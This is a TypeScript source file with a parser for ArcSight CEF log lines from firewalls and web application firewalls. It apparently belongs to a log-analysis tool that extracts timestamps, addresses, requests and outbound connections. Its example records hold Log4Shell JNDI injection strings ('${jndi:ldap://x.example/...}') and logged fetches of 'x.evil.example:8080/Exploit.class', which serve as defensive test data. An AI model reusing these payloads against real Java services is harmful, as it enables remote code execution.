import { type Instant, readAddress } from '../../core/index.ts'
import type { Outgoing } from '../outgoing.ts'
import { type Claim, Claims } from './claims.ts'
import { portOf } from './columns.ts'
import type { LogFormat, RecordField } from './format.ts'
import { ipProtocol } from './ip-protocol.ts'
import { nameAsked } from './name-asked.ts'
import { type SyslogHeader, syslogHeader, toldTime } from './syslog-header.ts'

/**
 * ArcSight's Common Event Format: `CEF:0|vendor|product|version|signature|name|severity|` and an extension of names and
 * values, whose texts may hold blanks. In the header `|` has a backslash before it, in the extension `=`; line breaks are
 * `\n` and `\r`. FortiGate puts a blank behind the colon, and names of its own before which stands `FTNTFGT`.
 *
 * @see https://docs.fortinet.com/document/fortigate/7.2.4/fortios-log-message-reference/949981
 * @see https://docs.imperva.com/bundle/cloud-application-security/page/more/example-logs.htm
 */
export const cef: LogFormat = {
  id: 'cef',
  summary: 'ArcSight CEF of firewalls and web application firewalls, behind a header of syslog or none',
  definedBy:
    'https://www.microfocus.com/documentation/arcsight/arcsight-smartconnectors-8.3/cef-implementation-standard/',
  witnesses: ['CEF:0|', 'CEF: 0|', 'CEF:1|', 'CEF: 1|'],
  examples: {
    reads: [
      {
        record:
          'Dec 12 04:25:41 waf1 CEF:0|F5|ASM|15.1.0|200004448|Java code injection|8|dvchost=waf1 dvc=10.0.0.2 cs1=/Common/shop cs1Label=policy_name act=blocked cn1=0 cn1Label=response_code src=203.0.113.9 spt=52963 dst=10.0.0.4 dpt=443 requestMethod=GET app=HTTPS rt=Dec 12 2021 04:25:40 request=/a?q\\=1 cs3=GET /a?q\\=1 HTTP/1.1\\r\\nUser-Agent: ${jndi:ldap://x.example/a}\\r\\n cs3Label=full_request',
        when: '2021-12-12T04:25:40Z',
        from: '203.0.113.9',
        request: 'GET /a?q=1',
        saw: { is: 'connection', to: '10.0.0.4', name: null, port: 443, by: '203.0.113.9', protocol: null },
      },
      {
        record:
          'CEF:0|Incapsula|SIEMintegration|1|1|Illegal Resource Access|3|fileId=3412341160002518171 requestClientApplication=${jndi:ldap://x.example/Basic/Command/Base64/aWQ\\=} src\\=192.0.2.1 deviceFacility=mia request=shop.example/a requestMethod=POST start=1639283140336 app=HTTPS src=203.0.113.9 cpt=443',
        when: '2021-12-12T04:25:40.336Z',
        from: '203.0.113.9',
        request: 'POST shop.example/a',
        userAgent: '${jndi:ldap://x.example/Basic/Command/Base64/aWQ=} src=192.0.2.1',
      },
      {
        record:
          'Dec 10 13:43:12 fw1 CEF: 0|Fortinet|Fortigate|v7.2.4|00013|traffic:forward accept|3|deviceExternalId=FG100F FTNTFGTlogid=0000000013 cat=traffic:forward FTNTFGTeventtime=1639140192123456789 src=10.0.0.5 spt=40000 deviceInboundInterface=lan dst=203.0.113.66 dpt=1389 deviceOutboundInterface=wan1 proto=6 act=accept app=LDAP',
        when: '2021-12-10T12:43:12.123Z',
        from: '10.0.0.5',
        saw: { is: 'connection', to: '203.0.113.66', name: null, port: 1389, by: '10.0.0.5', protocol: 'tcp' },
      },
      {
        record:
          '<134>Dec 10 13:43:12 fw1 CEF: 0|Fortinet|Fortigate|v7.2.4|54802|utm:dns dns-response pass|2|FTNTFGTeventtime=1639140192 src=10.0.0.5 spt=40000 dst=10.0.0.53 dpt=53 proto=17 FTNTFGTqname=x.evil.example FTNTFGTqtype=A FTNTFGTipaddr=203.0.113.66, 203.0.113.67',
        when: '2021-12-10T12:43:12Z',
        from: '10.0.0.5',
        saw: { is: 'dns-query', name: 'x.evil.example', by: '10.0.0.5', answers: ['203.0.113.66', '203.0.113.67'] },
      },
      {
        record:
          '<14>1 2021-12-10T12:43:12Z pa1 CEF:0|Palo Alto Networks|PAN-OS|10.1|(9999)|THREAT|1|src=10.0.0.5 dst=203.0.113.66 cs1Label=Rule cs1=out app=ldap spt=40000 dpt=1389 proto=tcp act=alert request=x.evil.example:8080/Exploit.class',
        when: '2021-12-10T12:43:12Z',
        from: '10.0.0.5',
        request: 'x.evil.example:8080/Exploit.class',
        saw: {
          is: 'connection',
          to: '203.0.113.66',
          name: 'x.evil.example',
          port: 1389,
          by: '10.0.0.5',
          protocol: 'ldap',
          asked: '/Exploit.class',
        },
      },
      {
        record: 'CEF:1|Acme|Portal|2.4|login|login of ${jndi:ldap://x.example/a} \\| failed|Low|',
      },
    ],
    refuses: [
      'CEF:0|F5|ASM|15.1.0|200004448|Java code injection',
      'login of CEF:0|a|b|c|d|e|5|src=192.0.2.1 failed',
      'Dec 12 04:25:41 web1 app: CEF:0|a|b|c|d|e|5|src=192.0.2.1',
      'CEF:x|a|b|c|d|e|5|src=192.0.2.1',
    ],
  },
  read({ text }, { around }) {
    const header = syslogHeader(text, 'CEF:')
    if (header === null) return null
    const prefix = prefixOf(text, header.end)
    if (prefix === null) return null
    const { values, end } = prefix
    const { claims, isEscaped } = extensionOf(text.slice(end))
    const said = new Claims(claims, isDevices, isEscaped)
    const from = endOf(said, 'src', 'sourceAddress', 'c6a2')
    const url = said.written('request', 'requestUrl')
    const method = said.written('requestMethod')
    const saw = sawOf(said, from, values[0] === 'Palo Alto Networks')
    return {
      when: timeOf(said, header, around),
      from,
      request: url === null || method === null ? (url ?? null) : `${method} ${url}`,
      userAgent: said.written('requestClientApplication'),
      ...(saw === null ? {} : { saw }),
      fields: [
        ...values.map((value, index) => ({ name: prefixNames[index] ?? null, value })),
        ...(claims.length === 0 ? [{ name: 'extension', value: text.slice(end) }] : named(claims)),
      ],
    }
  },
}

const prefixNames = ['vendor', 'product', 'version', 'signature', 'name', 'severity']

/** What stands between the first seven bars, their escapes undone, and where the extension begins. */
function prefixOf(text: string, start: number): { readonly values: readonly string[]; readonly end: number } | null {
  const values: string[] = []
  let from = start
  for (let at = start; at < text.length && values.length <= prefixNames.length; at++) {
    const code = text.charCodeAt(at)
    if (code === 0x5c) at++
    else if (code === 0x7c) {
      values.push(unescaped(text.slice(from, at)))
      from = at + 1
    }
  }
  return values.length <= prefixNames.length ? null : { values: values.slice(1), end: from }
}

/** More than any device writes; what follows is a part of the last. */
const mostClaims = 512

/** `isEscaped`: no value has an `=` in it that is not escaped, so that what looks like a name is one. */
function extensionOf(text: string): { readonly claims: readonly Claim[]; readonly isEscaped: boolean } {
  const name = /(?:^| )([\w.[\]-]{1,128})=/g
  const starts: { readonly name: string; readonly at: number; readonly value: number }[] = []
  for (let match = name.exec(text); match !== null && starts.length < mostClaims; match = name.exec(text))
    starts.push({ name: match[1] ?? '', at: match.index, value: name.lastIndex })
  const raw = starts.map(({ value }, index) => text.slice(value, starts[index + 1]?.at ?? text.length))
  return {
    claims: starts.map((start, index) => ({ name: start.name, value: unescaped(raw[index] ?? '').trim() })),
    isEscaped: !raw.some((value) => /(?:^|[^\\])(?:\\\\){0,64}=/.test(value)),
  }
}

/** Escapes of CEF; those of others stay, such as `\u0024` of a writer that escapes no backslash. */
function unescaped(text: string): string {
  if (!text.includes('\\')) return text
  return text.replace(/\\([\\|=/nr])/g, (_all, escaped: string) =>
    escaped === 'n' ? '\n' : escaped === 'r' ? '\r' : escaped,
  )
}

/** `cs3` is what `cs3Label` says. */
function named(claims: readonly Claim[]): readonly RecordField[] {
  const labels = new Map(claims.map(({ name, value }) => [name, value]))
  return claims.map(({ name, value }) => ({ name: labels.get(`${name}Label`)?.slice(0, 64) || name, value }))
}

/**
 * Names whose values a device counts, measures or has been told by who runs it; a method has no blank, and so no name in it.
 * All others may hold what a client wrote.
 */
const devices = new Set(
  'act cat app proto requestMethod in out cnt rt start end art eventId externalId type outcome src spt smac sourceAddress sourcePort dst dpt dmac destinationAddress destinationPort c6a1 c6a2 c6a3 c6a4 slat slong dlat dlong fileId sourceTranslatedAddress sourceTranslatedPort destinationTranslatedAddress destinationTranslatedPort sourceZone destinationZone'.split(
    ' ',
  ),
)

function isDevices(name: string): boolean {
  return (
    devices.has(name) ||
    /^(?:c(?:n|fp|s|6a)\dLabel|cn\d|dvc\w{0,32}|device(?!Custom(?:String|IP))\w{1,64}|flex(?:Date|Number)\d(?:Label)?|FTNTFGT(?:logid|subtype|level|vd|eventtime|eventtype|tz|srcintfrole|dstintfrole|poluuid|sessionid|policyid))$/.test(
      name,
    )
  )
}

/** The time that the device gives, since the header of RFC 3164 has neither a year nor a zone. */
function timeOf(said: Claims, header: SyslogHeader, around: Instant): Instant | null {
  const times = [['rt', 'deviceReceiptTime'], ['FTNTFGTeventtime'], ['start', 'startTime'], ['end', 'endTime']]
  return toldTime(
    header,
    times.map((names) => said.sure(...names)),
    times.map((names) => said.said(...names)),
    around,
  )
}

/** Both ends have to be known: who connects is never what he connects to. */
function sawOf(said: Claims, by: string | null, isPaloAlto: boolean): Outgoing | null {
  if (by === null) return null
  const asked = said.written('FTNTFGTqname')
  if (asked !== null && /^[\w.-]{1,253}$/.test(asked)) {
    const answers = (said.written('FTNTFGTipaddr') ?? '').split(/, ?/).filter((each) => readAddress(each) !== null)
    return { is: 'dns-query', name: nameAsked(asked), by, ...(answers.length === 0 ? {} : { answers }) }
  }
  const to = endOf(said, 'dst', 'destinationAddress', 'c6a3')
  if (to === null) return null
  const [, host, path] =
    /^(?:https?:\/\/)?([\w-]{1,63}(?:\.[\w-]{1,63}){1,16})(?::\d{1,5})?(\/.{0,2048})?$/is.exec(
      said.written('request', 'requestUrl') ?? '',
    ) ?? []
  const application = isPaloAlto ? (said.said('app') ?? '').toLowerCase() : ''
  const protocol = said.said('proto', 'transportProtocol')
  return {
    is: 'connection',
    to,
    name: host ?? nameOf(said.said('dhost', 'destinationHostName')),
    port: portOf(said.said('dpt', 'destinationPort')),
    by,
    // Elsewhere it is a name of the port, and says nothing of what was spoken.
    protocol: /^(?:ldap|rmi)$/.test(application) ? application : protocolOf(protocol),
    ...(path === undefined ? {} : { asked: path }),
  }
}

function protocolOf(protocol: string | null): string | null {
  return protocol !== null && /^[a-z]{2,12}$/i.test(protocol) ? protocol.toLowerCase() : ipProtocol(protocol)
}

/** Addresses of IPv6 have names of their own in version 0, whose labels say what they are of. */
function endOf(said: Claims, short: string, long: string, custom: string): string | null {
  if (said.has(short, long)) return addressOf(said.said(short, long))
  return (said.said(`${custom}Label`) ?? '').toLowerCase().startsWith(long.replace('Address', ''))
    ? addressOf(said.said(custom))
    : null
}

function addressOf(text: string | null): string | null {
  return text !== null && readAddress(text) !== null ? text : null
}

/** Where it is a name, and not the address again. */
function nameOf(text: string | null): string | null {
  return text !== null && /^[\w.-]{1,253}$/.test(text) && readAddress(text) === null ? text : null
}
